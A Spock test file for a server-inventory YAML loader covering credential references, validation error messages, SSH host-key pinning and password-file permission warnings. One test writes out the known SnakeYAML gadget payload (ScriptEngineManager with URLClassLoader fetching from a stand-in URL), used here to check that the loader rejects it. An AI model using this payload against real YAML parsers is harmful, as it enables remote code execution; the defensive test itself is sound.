package io.vaxiin.inventory

import spock.lang.Specification
import spock.lang.TempDir
import spock.lang.Unroll

import java.nio.file.Path

class InventorySpec extends Specification {

    @TempDir Path dir

    Inventory load(String yaml) {
        def f = dir.resolve('inventory.yaml')
        f.toFile().text = yaml.stripIndent()
        Inventory.load(f)
    }

    def "reads SPEC.md's example"() {
        when:
        def inv = load('''
            credentials:
              lab:   { username: admin, password: env:LAB_BMC_PASSWORD }
              dell:  { username: root,  password: file:/run/secrets/idrac }
            defaults:
              credentials: lab
            servers:
              web-01:
                vendor: dell
                console: vnc://10.0.0.5
                power: redfish://10.0.0.5
                credentials: dell
              db-07:
                console: vnc://10.0.0.9:5901
                power: ipmi://10.0.0.9
                serial: sol://10.0.0.9
            ''')

        then:
        inv.servers().keySet() as List == ['web-01', 'db-07']
        with(inv.server('web-01').get()) {
            vendor() == 'dell'
            console() == 'vnc://10.0.0.5'
            credentials().username() == 'root'
            credentials().password().reference() == 'file:/run/secrets/idrac'
        }
        inv.server('db-07').get().credentials().name() == 'lab'
        inv.server('db-07').get().credentials().password().toString() == 'secret(env:LAB_BMC_PASSWORD)'
    }

    @Unroll("an inventory error names the file, line and key: #what")
    def "an inventory error names the file, the line and the key"() {
        when:
        load(yaml)

        then:
        def e = thrown(InventoryException)
        e.message == "${dir.resolve('inventory.yaml')}:$message".toString()

        where:
        what               | yaml                                                                                  || message
        'unknown key'      | 'servers:\n  web-01:\n    consol: vnc://h\n'                                         || "3: unknown key 'consol' in server 'web-01' (known: console, credentials, health, knownHosts, labels, model, power, profile, serial, sshHostKey, tlsFingerprint, vendor, viewer)"
        'bad URI scheme'   | 'servers:\n  web-01:\n    console: http://h\n'                                       || "3: server 'web-01': console 'http://h' must start with one of sandbox:, screenshot+http:, screenshot+https:, vnc:, web+http:, web+https:, ws:, wss:"
        'literal password' | 'credentials:\n  lab: { username: a, password: hunter2 }\n'                            || "2: credentials 'lab': a password is written env:NAME or file:PATH, never as the password itself"
        'unknown creds'    | 'servers:\n  a:\n    power: redfish://h\n    credentials: nope\n'                    || "4: server 'a' refers to credentials 'nope', which are not defined (defined: none)"
        'top-level typo'   | 'server:\n  a: {}\n'                                                                   || "1: unknown key 'server' in the inventory (known: credentials, defaults, servers)"
        'bad fingerprint'  | 'servers:\n  a:\n    power: redfish://h\n    tlsFingerprint: abc\n'                   || "4: server 'a': tlsFingerprint is a SHA-256 fingerprint, 64 hex digits (colons allowed)"
        'tab indent'       | 'servers:\n\tweb-01:\n    power: redfish://h\n'                                    || "2: a tab in the indentation: YAML indents with spaces only"
        'custom tag'       | 'servers:\n  a:\n    power: !secret redfish://h\n'                             || "3: a YAML tag (!secret) is not allowed in an inventory: it is plain data"
        'bad host key'     | 'servers:\n  a:\n    serial: ssh://u@h\n    sshHostKey: abc\n'                  || "4: server 'a': sshHostKey is a key's SHA-256 fingerprint as ssh-keygen -l prints it (SHA256:…, 43 characters), not 'abc'"
        'no vendor set'    | 'credentials:\n  d: { username: r, password: env:X }\ndefaults:\n  credentials: { dell: d }\nservers:\n  a:\n    power: ipmi://h\n' || "7: server 'a' has no vendor, and defaults credentials name sets only for dell: give it vendor: (vaxiin discover --write does), credentials:, or add other: to defaults credentials"
        'duplicate key'    | 'servers:\n  a:\n    power: redfish://h\n    power: redfish://i\n'                    || "4: duplicate key 'power' in server 'a'"
    }

    def "defaults: credentials by vendor, an SSH host key pinned per server, labels merged over the defaults"() {
        when:
        def inv = load('''
            credentials:
              dell: { username: root, password: env:DELL_PW }
              lab:  { username: admin, password: env:LAB_PW }
            defaults:
              credentials: { dell: dell, other: lab }
              labels: { site: fra1 }
            servers:
              web-01: { vendor: Dell, power: redfish://10.0.0.5, labels: { rack: r7 } }
              db-07:
                power: ipmi://10.0.0.9
                serial: ssh://10.0.0.9
                knownHosts: /etc/vaxiin/known_hosts
                sshHostKey: [SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s]
            ''')

        then:
        inv.server('web-01').get().credentials().name() == 'dell'
        inv.server('web-01').get().labels() == [site: 'fra1', rack: 'r7']
        with(inv.server('db-07').get()) {
            credentials().name() == 'lab'
            knownHosts() == '/etc/vaxiin/known_hosts'
            sshHostKeys() == ['SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s']
        }
    }

    def "a password file every user can read is a warning; an unset variable names the file, line and key when it is read"() {
        given:
        def pw = dir.resolve('pw')
        pw.toFile().text = 'x\n'
        java.nio.file.Files.setPosixFilePermissions(pw, java.nio.file.attribute.PosixFilePermissions.fromString('rw-r--r--'))

        when:
        def inv = load("""
            credentials:
              lab: { username: a, password: file:$pw }
              other: { username: a, password: env:VAXIIN_SURELY_UNSET_VAR }
            servers:
              a: { power: ipmi://h, credentials: lab }
            """)
        def f = dir.resolve('inventory.yaml')

        then:
        inv.warnings() == ["$f:3: credentials 'lab' password: the password file $pw can be read by every user of this machine (chmod 600 $pw)".toString()]

        when:
        load('credentials:\n  o: { username: a, password: env:VAXIIN_SURELY_UNSET_VAR }\nservers:\n  a: { power: ipmi://h, credentials: o }\n')
                .server('a').get().credentials().password().read()

        then:
        def e = thrown(InventoryException)
        e.message == "$f:2: credentials 'o' password: the environment variable VAXIIN_SURELY_UNSET_VAR (a password) is not set".toString()
    }

    def "a YAML tag cannot construct an object"() {
        when:
        load('servers: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]\n')

        then:
        def e = thrown(InventoryException)
        e.message.contains('inventory.yaml:1:')
    }

    def "a password is read only when needed, and its value never shows"() {
        given:
        def pw = dir.resolve('pw')
        pw.toFile().text = 's3cret\n'
        def secret = Secret.of("file:$pw")

        expect:
        new String(secret.read()) == 's3cret'
        !secret.toString().contains('s3cret')
    }
}
